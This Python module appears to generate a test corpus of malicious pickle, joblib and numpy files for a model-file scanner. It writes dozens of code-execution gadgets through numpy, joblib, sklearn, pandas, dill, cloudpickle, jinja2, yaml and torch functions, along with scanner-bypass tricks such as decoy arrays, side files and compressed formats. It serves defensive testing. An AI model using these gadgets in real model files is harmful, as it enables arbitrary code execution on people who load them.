"""Malicious pickles, joblib and numpy files around functions of machine-learning libraries, and their own loaders.

Includes the tricks of the joblib format: raw array bytes between opcodes, object arrays as nested pickles,
side files, every compressor.
"""

# ruff: noqa: E501 (one row a sample reads better than wrapped calls)

from __future__ import annotations

import base64
import io
import marshal
import pickle as stdlib_pickle
import types
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

from .assembler import (
    EMPTY_TUPLE,
    MARKER,
    POP,
    PYTHON,
    REDUCE,
    SHELL,
    TUPLE1,
    Op,
    build,
    call,
    evil,
    global_,
    new,
    pickle,
    raw,
    shell,
    stack_global,
    text,
    value,
)
from .sample import Sample, write_bytes

SG = stack_global
SH = ["sh", "-c", SHELL]
_WRITTEN = call(SG("pathlib", "Path.write_bytes"), call(SG("pathlib", "Path"), "violet_weights.pkl"), evil()) + POP
_SOURCE = call(SG("pathlib", "Path.write_text"), call(SG("pathlib", "Path"), "violet_weights.py"), PYTHON) + POP
_MODULE_CODE = compile(PYTHON, "model.py", "exec")
_HEADER = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
_NPY_HEADER = b"\x93NUMPY\x01\x00" + bytes([len(_HEADER), 0]) + _HEADER


def _code_arguments(code: types.CodeType) -> tuple[Any, ...]:
    """Arguments of `types.CodeType` for Python 3.11 and later."""
    return (
        code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize,
        code.co_flags, code.co_code, code.co_consts, code.co_names, code.co_varnames, code.co_filename,
        code.co_name, code.co_qualname, code.co_firstlineno, code.co_linetable, code.co_exceptiontable,
        code.co_freevars, code.co_cellvars,
    )  # fmt: skip


_FUNCTIONS = [
    ("numpy.testing.runstring", call(SG("numpy.testing._private.utils", "runstring"), PYTHON, {}), "numpy", "https://github.com/mmaitre314/picklescan"),
    ("numpy.testing.public", call(SG("numpy.testing", "runstring"), PYTHON, {}), "numpy", "https://github.com/mmaitre314/picklescan"),
    ("numpy.testing.measure", call(SG("numpy.testing", "measure"), PYTHON), "numpy", ""),
    ("numpy.testing.assert_raises", call(SG("numpy.testing", "assert_raises"), SG("builtins", "ValueError"), SG("os", "system"), SHELL), "numpy", ""),
    ("numpy.f2py.getlincoef", call(SG("numpy.f2py.crackfortran", "getlincoef"), PYTHON, {}), "numpy", "GHSA-rrxm-2pvv-m66x"),
    ("numpy.f2py._eval_length", call(SG("numpy.f2py.crackfortran", "_eval_length"), PYTHON, {}), "numpy", "GHSA-6556-fwc2-fg2p"),
    ("numpy.f2py.myeval", call(SG("numpy.f2py.crackfortran", "myeval"), PYTHON), "numpy", ""),
    ("numpy.f2py.load_f2cmap_file", call(SG("pathlib", "Path.write_text"), call(SG("pathlib", "Path"), "f2cmap"), f"open('{MARKER}', 'w')") + POP + call(SG("numpy.f2py.capi_maps", "load_f2cmap_file"), "f2cmap"), "numpy", ""),
    ("numpy.ctypeslib.load_library", call(call(SG("operator", "attrgetter"), "system"), call(SG("numpy.ctypeslib", "load_library"), "libc.so.6", "/usr/lib/x86_64-linux-gnu")) + raw(SHELL.encode()) + TUPLE1 + REDUCE, "numpy", "https://huggingface.co/EnigmaConsultant/huntr-poc-joblib-modelscan-numpy-ctypeslib"),
    ("numpy.load", _WRITTEN + call(SG("numpy", "load"), "violet_weights.pkl", None, True), "numpy", ""),
    ("numpy.lib.format.read_array", call(SG("numpy.lib.format", "read_array"), call(SG("io", "BytesIO"), raw(_NPY_HEADER + evil())), True), "numpy", ""),
    ("numpy.distutils.getoutput", call(SG("numpy.distutils.cpuinfo", "getoutput"), SHELL), "never_on_numpy_2", "https://huggingface.co/realmads/numpy-distutils-pickle-gadget-poc"),
    ("scipy.optimize.fsolve", call(SG("scipy.optimize", "fsolve"), call(SG("builtins", "eval"), "lambda x: " + PYTHON), 0.5), "scipy", ""),
    ("joblib.load", _WRITTEN + call(SG("joblib", "load"), "violet_weights.pkl"), "joblib", ""),
    ("joblib.numpy_pickle.load", _WRITTEN + call(SG("joblib.numpy_pickle", "load"), "violet_weights.pkl"), "joblib", ""),
    ("joblib.testing.check_subprocess_call", call(SG("joblib.testing", "check_subprocess_call"), SH), "joblib", "https://huggingface.co/hacnho/joblib-inline-object-array-nested-pickle-bypass-poc"),
    ("joblib.loky._reconstruct_wrapper", call(SG("joblib.externals.loky.cloudpickle_wrapper", "_reconstruct_wrapper"), raw(evil()), True), "joblib", "https://huggingface.co/hacnho/joblib-loky-cloudpickle-wrapper-nested-ace-poc"),
    ("joblib.parallel.BatchedCalls", call(SG("joblib.parallel", "BatchedCalls.__call__"), build(new(SG("joblib.parallel", "BatchedCalls")), {"items": [(SG("os", "system"), (SHELL,), {})], "_backend": call(SG("joblib._parallel_backends", "SequentialBackend")), "_n_jobs": 1, "_reducer_callback": None, "_pickle_cache": {}})), "joblib", ""),
    ("joblib.memory.NotMemorizedFunc", call(SG("joblib.memory", "NotMemorizedFunc.__call__"), call(SG("joblib.memory", "NotMemorizedFunc"), SG("os", "system")), SHELL), "joblib", ""),
    ("joblib.loky.fork_exec", call(SG("joblib.externals.loky.backend.fork_exec", "fork_exec"), ["/bin/sh", "-c", SHELL], [], SG("os", "environ")), "joblib", ""),
    ("joblib.loky.runpy", call(SG("joblib.externals.loky.backend.spawn", "runpy._run_code"), PYTHON, {}), "joblib", ""),
    ("sklearn.utils.parallel.FuncWrapper", call(SG("sklearn.utils.parallel", "_FuncWrapper.__call__"), build(call(SG("sklearn.utils.parallel", "_FuncWrapper"), SG("os", "system")), {"config": {}, "warning_filters": []}), SHELL), "sklearn", ""),
    ("sklearn.FunctionTransformer.transform", call(SG("sklearn.preprocessing", "FunctionTransformer.transform"), build(new(SG("sklearn.preprocessing", "FunctionTransformer")), {"func": SG("os", "system"), "kw_args": None, "validate": False, "check_inverse": False, "accept_sparse": True}), SHELL), "sklearn", ""),
    ("sklearn.datasets.pickle.loads", call(SG("sklearn.datasets._twenty_newsgroups", "pickle.loads"), raw(evil())), "sklearn", ""),
    ("pandas.read_pickle", _WRITTEN + call(SG("pandas", "read_pickle"), "violet_weights.pkl"), "pandas", ""),
    ("pandas.io.pickle.read_pickle", _WRITTEN + call(SG("pandas.io.pickle", "read_pickle"), call(SG("io", "BytesIO"), evil())), "pandas", ""),
    ("pandas.eval", call(SG("pandas", "eval"), "w.system(c)", "pandas", "python", call(SG("builtins", "dict"), {"w": call(SG("importlib", "import_module"), "os"), "c": SHELL})), "pandas", ""),
    ("pandas.Series.apply", call(SG("pandas", "Series.apply"), call(SG("pandas", "Series"), [SHELL]), SG("os", "system")), "pandas", ""),
    ("cloudpickle.loads", call(SG("cloudpickle", "loads"), raw(evil())), "cloudpickle", ""),
    ("cloudpickle.subimport", call(call(SG("builtins", "getattr"), call(SG("cloudpickle.cloudpickle", "subimport"), "os"), "system"), SHELL), "cloudpickle", "https://github.com/mmaitre314/picklescan"),
    ("cloudpickle._make_function", call(call(SG("cloudpickle.cloudpickle", "_make_function"), call(call(SG("cloudpickle.cloudpickle", "_builtin_type"), "CodeType"), *_code_arguments(_MODULE_CODE)), {"__builtins__": SG("builtins", "__dict__")}, None, None, None)), "cloudpickle", "https://github.com/mmaitre314/picklescan"),
    ("dill.loads", call(SG("dill", "loads"), raw(evil())), "dill", ""),
    ("dill._create_function", call(call(SG("dill._dill", "_create_function"), call(SG("dill._dill", "_create_code"), *_code_arguments(_MODULE_CODE)), {"__builtins__": SG("builtins", "__dict__")}, "load")), "dill", ""),
    ("dill._eval_repr", call(SG("dill._dill", "_eval_repr"), PYTHON), "dill", ""),
    ("dill._get_attr", call(call(SG("dill._dill", "_get_attr"), call(SG("dill._dill", "_import_module"), "os"), "system"), SHELL), "dill", ""),
    ("dill.builtins.exec", call(SG("dill._dill", "__builtin__.exec"), PYTHON), "dill", ""),
    ("yaml.unsafe_load", call(SG("yaml", "unsafe_load"), "!!python/object/apply:os.system ['touch \"$VIOLET_MARKER\"']"), "yaml", ""),
    ("jinja2.Template.render", call(SG("jinja2", "Template.render"), call(SG("jinja2", "Template"), "{{ cycler.__init__.__globals__.os.system('touch \"$VIOLET_MARKER\"') }}")), "jinja2", ""),
    ("jinja2.NativeEnvironment", call(SG("jinja2.environment", "Template.render"), call(SG("jinja2.environment", "Environment.from_string"), call(SG("jinja2.nativetypes", "NativeEnvironment")), "{{ lipsum.__globals__.os.system('touch \"$VIOLET_MARKER\"') }}")), "jinja2", ""),
    ("setuptools.sandbox.execfile", _SOURCE + call(SG("setuptools.sandbox", "_execfile"), "violet_weights.py", {}), "setuptools.sandbox", ""),
    ("pkg_resources.run_script", call(SG("pkg_resources", "EntryPoint.resolve"), call(SG("pkg_resources", "EntryPoint"), "x", "os", ["system"])) + text(SHELL) + TUPLE1 + REDUCE, "pkg_resources", ""),
    ("pygments.load_lexer_from_file", _SOURCE + call(SG("pygments.lexers", "load_lexer_from_file"), "violet_weights.py"), "pygments", ""),
    ("skops._import_obj", call(SG("skops.io._utils", "_import_obj"), "os", "system") + text(SHELL) + TUPLE1 + REDUCE, "skops", ""),
    ("skops.sys_modules", call(call(SG("operator", "attrgetter"), "system"), call(SG("skops.io._utils", "sys.modules.get"), "os")) + text(SHELL) + TUPLE1 + REDUCE, "skops", ""),
    ("requests.hooks", call(SG("requests.hooks", "dispatch_hook"), "w", {"w": [SG("os", "system")]}, SHELL), "requests", ""),
    ("psutil.Popen", call(SG("psutil", "Popen"), SH), "psutil", ""),
    ("setuptools.spawn", call(SG("setuptools._distutils.spawn", "spawn"), SH), "setuptools", ""),
]  # fmt: skip

_ABSENT = [
    ("keras.func_load", call(call(SG("keras.src.utils.python_utils", "func_load"), base64.b64encode(marshal.dumps(_MODULE_CODE)).decode())), ""),
    ("keras.dotted.marshal", call(SG("keras.src.utils.python_utils", "marshal.loads"), raw(marshal.dumps(_MODULE_CODE))) + POP + call(SG("keras.src.utils.file_utils", "os.system"), SHELL), ""),
    ("joblib.cloudpickle.loads", call(SG("joblib.externals.cloudpickle", "loads"), raw(evil())), ""),
    ("torch.load", call(SG("torch.serialization", "load"), "other.bin"), "CVE-2025-1889"),
    ("torch.execWrapper", call(SG("torch.jit.unsupported_tensor_ops", "execWrapper"), PYTHON, {}, {}), "GHSA-4whj-rm5r-c2v8"),
    ("torch.collect_env.run", call(SG("torch.utils.collect_env", "run"), SHELL), "GHSA-f745-w6jp-hpxx"),
    ("torch.bottleneck.run_cprofile", call(SG("torch.utils.bottleneck.__main__", "run_cprofile"), PYTHON, {}), "GHSA-vv6j-3g6g-2pvj"),
    ("torch.bottleneck.run_autograd_prof", call(SG("torch.utils.bottleneck.__main__", "run_autograd_prof"), PYTHON, {}), "GHSA-4whj-rm5r-c2v8"),
    ("torch._dynamo.GuardBuilder.get", call(SG("torch._dynamo.guards", "GuardBuilder.get"), None, PYTHON), "GHSA-86cj-95qr-2p4f"),
    ("torch.fx.ShapeEnv", call(SG("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), None, PYTHON, []), "GHSA-vr7h-p6mm-wpmh"),
    ("torch.ConfigModule.load_config", call(SG("torch.utils._config_module", "ConfigModule.load_config"), None, raw(evil())), "GHSA-h3qp-7fh3-f8h4"),
    ("torch.basichandlers", call(SG("torch.utils.data.datapipes.utils.decoder", "basichandlers"), "pkl", raw(evil())), "GHSA-f4x7-rfwp-v3xw"),
    ("torch._inductor.compile_file", call(SG("torch._inductor.codecache", "compile_file"), "", "", SH), "GHSA-jgw4-cr84-mqxg"),
    ("torch.storage._load_from_bytes", call(SG("torch.storage", "_load_from_bytes"), raw(evil())), ""),
    ("torch.fx._exec_with_source", call(SG("torch.fx.graph_module", "_exec_with_source"), PYTHON, {}), ""),
    ("torch.fx.reduce_graph_module", call(SG("torch.fx.graph_module", "reduce_graph_module"), {"_code": f"def forward(self): pass\n{PYTHON}\n"}, ""), ""),
    ("torch.cpp_extension.load_inline", call(SG("torch.utils.cpp_extension", "load_inline"), "x", "int x(){return 0;}"), ""),
    ("torch.package", call(SG("torch.package", "PackageImporter"), "evil.pt"), ""),
    ("torch.classes.load_library", call(SG("torch", "ops.load_library"), "./libevil.so"), ""),
    ("torch.dotted.os", call(SG("torch.serialization", "os.system"), SHELL), ""),
    ("sympy.sympify", call(SG("sympy.core.sympify", "sympify"), PYTHON), ""),
    ("nltk.data.load", call(SG("nltk.data", "load"), "file:evil.pickle"), ""),
    ("numexpr.evaluate", call(SG("numexpr", "evaluate"), PYTHON), "CVE-2023-39631"),
    ("tensorflow.load_op_library", call(SG("tensorflow", "load_op_library"), "./libevil.so"), ""),
    ("transformers.AutoTokenizer", call(SG("transformers.dynamic_module_utils", "get_class_from_dynamic_module"), "mod.Class", "attacker/repo"), ""),
    ("ray.cloudpickle.loads", call(SG("ray.cloudpickle", "loads"), raw(evil())), ""),
    ("sh.module_getattr", call(global_("sh", "bash"), "-c", SHELL), "https://huggingface.co/SiggytheShark/pickle-bypass-sh-bash-getattr"),
    ("nt.system", call(SG("nt", "system"), "calc.exe"), ""),
    ("winreg.SetValue", call(SG("winreg", "SetValue"), 1, "x", 1, "y"), ""),
    ("_winapi.CreateProcess", call(SG("_winapi", "CreateProcess"), None, "calc.exe", None, None, 0, 0, None, None, None), ""),
    ("_pyrepl.pager.pipe_pager", call(SG("_pyrepl.pager", "pipe_pager"), "text", SHELL), "GHSA-g38g-8gr9-h9xp"),
    ("_interpreters.run_string", call(SG("_interpreters", "run_string"), call(SG("_interpreters", "create")), PYTHON), "GHSA-6ggj-6f2q-f7mx"),
]  # fmt: skip


class _System:
    """Pickles as the payload call, for files written by a real library's own dumper."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, (SHELL,)


def _dumped(content: Callable[[], Any], **options: Any) -> Callable[[], bytes]:
    def write() -> bytes:
        import joblib

        buffer = io.BytesIO()
        joblib.dump(content(), buffer, **options)
        return buffer.getvalue()

    return write


def _array_then_payload() -> Any:
    import numpy as np

    return {"coef": np.frombuffer(b"\xff.\x00cos\nfoo\n\x80\x04." * 64, dtype="u1"), "loss": _System()}


def _decoy_array() -> Any:
    """Raw bytes that are themselves a complete harmless pickle, so that a careless reader stops there."""
    import numpy as np

    return [np.frombuffer(stdlib_pickle.dumps({"weights": [1.0]}) * 8, dtype="u1"), _System()]


def _object_array() -> Any:
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = _System()
    return array


def _numpy_save(content: Callable[[], Any]) -> Callable[[], bytes]:
    def write() -> bytes:
        import numpy as np

        buffer = io.BytesIO()
        np.save(buffer, content(), allow_pickle=True)
        return buffer.getvalue()

    return write


def _npz(**members: Callable[[], Any]) -> Callable[[], bytes]:
    def write() -> bytes:
        import numpy as np

        buffer = io.BytesIO()
        np.savez_compressed(buffer, **{name: content() for name, content in members.items()})
        return buffer.getvalue()

    return write


def _weights() -> Any:
    import numpy as np

    return np.linspace(0, 1, 64)


def _compat_zf() -> bytes:
    """The compressed format of joblib before 0.10: `ZF`, the decompressed length in hexadecimal, zlib data."""
    content = evil(3)
    return b"ZF" + hex(len(content)).encode().ljust(19) + zlib.compress(content)


def _lz4_frame() -> bytes:
    import lz4.frame

    return bytes(lz4.frame.compress(evil(3)))


def _side_file(directory: Path) -> Path:
    """A model whose NDArrayWrapper makes joblib load an object array from a neighbour with an innocent name."""
    folder = directory / "joblib_side_file"
    folder.mkdir()
    wrapper = SG("joblib.numpy_pickle_compat", "NDArrayWrapper")
    state = {"filename": "weights.bin", "subclass": SG("numpy", "ndarray"), "allow_mmap": False}
    (folder / "model.joblib").write_bytes(pickle(build(new(wrapper), state), 4))
    (folder / "weights.bin").write_bytes(_numpy_save(_object_array)())
    return folder


def _function(function: str, body: Op, module: str, source: str) -> Sample:
    name = f"library_{function.replace('.', '_')}.pkl"
    content = pickle(body)
    fires = not module.startswith("never")
    return Sample(
        name,
        f"library/{function}",
        True,
        fires,
        write_bytes(name, lambda: content),
        "pickle",
        (module,) if fires else (),
        source,
    )


def _absent(function: str, body: Op, source: str) -> Sample:
    name = f"library_{function.replace('.', '_')}.pkl"
    content = pickle(body)
    return Sample(name, f"library/{function}", True, False, write_bytes(name, lambda: content), "", (), source)


def _file(name: str, technique: str, content: Callable[[], bytes], loader: str, needs: str, source: str = "") -> Sample:
    return Sample(name, technique, True, True, write_bytes(name, content), loader, tuple(needs.split()), source)


_INLINE = "https://huggingface.co/aisecre/joblib-numpy-inline-bytes-scanner-bypass"

SAMPLES = (
    *(_function(*row) for row in _FUNCTIONS),
    *(_absent(*row) for row in _ABSENT),
    _file("plain.joblib", "joblib/plain", evil, "joblib", "joblib"),
    _file("array_then_payload.joblib", "joblib/raw-array-bytes", _dumped(_array_then_payload), "joblib", "joblib numpy", _INLINE),
    _file("decoy_array.joblib", "joblib/raw-bytes-look-like-a-pickle", _dumped(_decoy_array), "joblib", "joblib numpy", _INLINE),
    _file("object_array.joblib", "joblib/object-array", _dumped(_object_array), "joblib", "joblib numpy", "https://huggingface.co/hacnho/joblib-inline-object-array-nested-pickle-bypass-poc"),
    *(_file(f"compressed_{method}.joblib", f"joblib/{method}", _dumped(_array_then_payload, compress=(method, 3)), "joblib", "joblib numpy")
      for method in ("zlib", "gzip", "bz2", "lzma", "xz")),
    _file("compressed_lz4.joblib", "joblib/lz4", _lz4_frame, "joblib", "joblib lz4"),
    _file("compat_zf.joblib", "joblib/zf-compatibility", _compat_zf, "joblib", "joblib", "https://huggingface.co/xiaoyaoes/mfv-joblib-zf-bypass"),
    Sample("joblib_side_file", "joblib/side-file", True, True, _side_file, "joblib", ("joblib", "numpy"), "https://huggingface.co/heehee0219/joblib-ndarraywrapper-poc"),
    _file("object_array.npy", "numpy/object-array", _numpy_save(_object_array), "numpy", "numpy"),
    _file("object_array.npz", "numpy/npz-object-array", _npz(weights=_weights, labels=_object_array), "numpy", "numpy"),
    _file("pickle_named.npy", "numpy/pickle-fallback", evil, "numpy", "numpy"),
    _file("latin1_object.npy", "numpy/python2-encoding", lambda: _numpy_save(_object_array)().partition(b"\x80")[0] + b"S'\xff'\n0" + evil(2), "numpy-latin1", "numpy"),
    _file("frame.pkl", "pandas/read-pickle", evil, "pandas", "pandas"),
    _file("dill.pkl", "dill/load", evil, "dill", "dill"),
    _file("cloud.pkl", "cloudpickle/load", evil, "cloudpickle", "cloudpickle"),
    _file("payload_then_state.pkl", "library/payload-inside-estimator", lambda: pickle(build(new(SG("sklearn.linear_model", "LinearRegression")), {"coef_": shell(), "intercept_": 0.0})), "pickle", "sklearn"),
    _file("dill_function.pkl", "dill/function", lambda: pickle(call(SG("dill._dill", "_create_function"), call(SG("dill._dill", "_create_code"), *_code_arguments(_MODULE_CODE)), {"__builtins__": SG("builtins", "__dict__")}) + EMPTY_TUPLE + REDUCE + value(None) + POP), "dill", "dill"),
)  # fmt: skip
